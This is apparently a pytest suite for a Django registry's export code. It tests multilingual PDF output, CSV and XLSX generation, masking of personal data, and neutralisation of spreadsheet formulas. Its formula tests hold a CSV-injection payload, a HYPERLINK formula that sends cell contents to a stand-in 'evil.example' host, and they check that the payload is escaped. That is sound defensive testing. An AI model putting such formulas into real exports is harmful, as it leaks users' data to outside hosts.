import io
from typing import Any

import pytest
from django.template import Context, Template
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from hkcq.core import exports
from hkcq.core.text import contains_personal_data, mask_personal_data

PRINTED = Template(
    '{% extends "core/print_base.html" %}{% block content %}'
    '<section class="cover"><h1>{{ title }}</h1></section><p>{{ body }}</p>{% endblock %}'
)


@pytest.mark.parametrize(
    ("language", "title", "body"),
    [
        ("zh-hant", "港渝合作會議", "兩地在經貿、金融和物流領域的合作"),
        ("zh-hans", "港渝合作会议", "两地在经贸、金融和物流领域的合作"),
        ("en", "Hong Kong/Chongqing Co-operation Conference", "Co-operation in finance"),
    ],
)
def test_pdf_carries_the_text_in_each_language_with_page_numbers(language, title, body):
    with translation.override(language):
        html = PRINTED.render(Context({"title": title, "body": body}))
    reader = PdfReader(io.BytesIO(exports.html_to_pdf(html)))
    text = "".join("".join(page.extract_text().split()) for page in reader.pages)
    assert "".join(title.split()) in text  # compared without the line breaks the layout adds
    assert "".join(body.split()) in text
    assert "2 / 2" in reader.pages[1].extract_text()


def test_xlsx_and_csv_hold_the_same_rows():
    rows: list[list[object]] = [["Area", "Measures"], ["金融", 3], ["Logistics", 2]]
    workbook = load_workbook(io.BytesIO(exports.xlsx_bytes({"Progress: by area": rows})))
    sheet = workbook["Progress  by area"]
    assert [list(r) for r in sheet.iter_rows(values_only=True)] == rows
    response = exports.csv_response(rows, "By area")
    assert response.content.startswith("\ufeff".encode())
    assert response.content.decode("utf-8-sig").splitlines() == ["Area,Measures", "金融,3", "Logistics,2"]
    assert response["Content-Disposition"] == 'attachment; filename="by-area.csv"'


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("我的身份證 A123456(7)，電話 9123 4567", "我的身份證 ▇▇▇，電話 ▇▇▇"),
        ("ID 110101199003077777, mobile +86 138 0013 8000", "ID ▇▇▇, mobile ▇▇▇"),
        ("HKID AB987654A please", "HKID ▇▇▇ please"),
        ("call 2345 6789 or 13800138000", "call ▇▇▇ or ▇▇▇"),
        ("電郵chan.tai-man@example.com.hk請回覆", "電郵▇▇▇請回覆"),
        ("write to a+b@mail.example.org.", "write to ▇▇▇."),
    ],
)
def test_personal_data_is_masked(text, masked):
    assert mask_personal_data(text) == masked
    assert contains_personal_data(text)


def test_ordinary_numbers_are_left_alone():
    text = "In 2023 the 11 areas had 21 measures; reference HKCQ-2026-000123-4"
    assert mask_personal_data(text) == text
    assert not contains_personal_data(text)


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


def test_csv_neutralises_every_cell_that_would_start_a_formula():
    import csv as csvmod
    import io as iomod

    from hkcq.core.exports import csv_text

    text = csv_text([["title", "n"], *[[f, -5] for f in FORMULAS], ["plain - text", 3.5]])
    rows = list(csvmod.reader(iomod.StringIO(text, newline="")))
    assert [r[0] for r in rows[1:-1]] == ["'" + f for f in FORMULAS]
    assert rows[1][1] == "-5"  # numbers are numbers, not text to neutralise
    assert rows[-1] == ["plain - text", "3.5"]


def test_xlsx_writes_formula_like_text_as_text():
    import io as iomod
    import zipfile

    from openpyxl import load_workbook

    from hkcq.core.exports import xlsx_bytes

    content = xlsx_bytes({"Sheet": [["title"], *[[f] for f in FORMULAS], [-5]]})
    with zipfile.ZipFile(iomod.BytesIO(content)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(iomod.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells[:-1]] == [f.replace("\r", "\n") for f in FORMULAS] and all(
        c.data_type == "s" for c in cells[:-1]
    )
    assert cells[-1].value == -5 and cells[-1].data_type == "n"


def test_the_open_data_csv_and_the_digest_xlsx_carry_no_live_formula(client, secretariat_hk):
    import io as iomod

    from openpyxl import load_workbook

    from hkcq.registry.tests.factories import MeasureFactory
    from hkcq.suggestions.models import Suggestion

    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    MeasureFactory.create(title={"en": evil, "zh-hant": evil, "zh-hans": evil})
    csv_body = client.get("/en/open-data/measures.csv").content.decode("utf-8-sig")
    assert "'" + evil.replace('"', '""') in csv_body and "," + evil.replace('"', '""') not in csv_body
    from django.utils import timezone

    Suggestion.objects.create(
        title=evil,
        text="x",
        public_title=evil,
        language="en",
        state="published",
        status="adopted",
        tracking_token="t-evil",
        responded_at=timezone.now(),
        published_at=timezone.now(),
    )
    client.force_login(secretariat_hk)
    response = client.get("/en/suggestions/digest/", {"start": "2000-01-01", "end": "2100-01-01", "format": "xlsx"})
    book = load_workbook(iomod.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert [c for c in cells if c.value == evil]  # there, as text


def test_xlsx_has_a_frozen_header_sized_columns_and_dates_in_the_languages_format():
    import datetime as dt
    import io

    from django.utils import translation
    from openpyxl import load_workbook

    from hkcq.core.exports import xlsx_bytes

    rows: list[list[Any]] = [
        ["Code", "Title", "Planned end"],
        ["1.1", "「一帶一路」合作夥伴及參與高峰論壇" * 2, dt.date(2026, 12, 5)],
        ["2", "x", None],
    ]
    with translation.override("zh-hant"):
        sheet = load_workbook(io.BytesIO(xlsx_bytes({"Measures": rows}))).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert 8 <= sheet.column_dimensions["A"].width < 12
    assert sheet.column_dimensions["B"].width == 60  # long Chinese text: capped, and wrapped
    assert sheet["B2"].alignment.wrap_text
    assert sheet["C2"].number_format == 'yyyy"年"m"月"d"日"'
    with translation.override("en"):
        sheet = load_workbook(io.BytesIO(xlsx_bytes({"Measures": rows}))).active
    assert sheet["C2"].number_format == "d mmmm yyyy"
